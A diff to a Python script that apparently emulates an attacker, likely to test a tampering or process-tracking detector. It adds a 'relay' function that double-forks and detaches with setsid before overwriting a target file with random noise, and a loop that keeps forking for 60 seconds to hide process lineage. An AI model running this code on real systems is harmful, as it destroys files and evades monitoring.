@@ -10,6 +10,7 @@ import random
 import struct
 import subprocess
 import sys
+import time
 
 LIBC = ctypes.CDLL(None, use_errno=True)
 NOISE = random.Random(7)
@@ -113,9 +114,29 @@ def write_with_32_bits(path):
     subprocess.run([program, path], check=True)
 
 
+def relay(path):
+    """Each file by a process of its own, in a session of its own, whose maker has gone: no tree."""
+    if os.fork():
+        os._exit(0)
+    os.setsid()
+    with open(path, "r+b") as file:
+        file.write(noise(os.path.getsize(path)))
+
+
+def fork_on():
+    """Then it goes on forking and does nothing else; an end is set to it."""
+    end = time.monotonic() + 60
+    while time.monotonic() < end:
+        if os.fork():
+            os._exit(0)
+        os.setsid()
+
+
 for target in sys.argv[2:]:
     try:
         globals()[sys.argv[1]](target)
     except OSError:
         pass  # denied or gone: an attacker tries the next
+if sys.argv[1] == "relay":
+    fork_on()
 print("done")
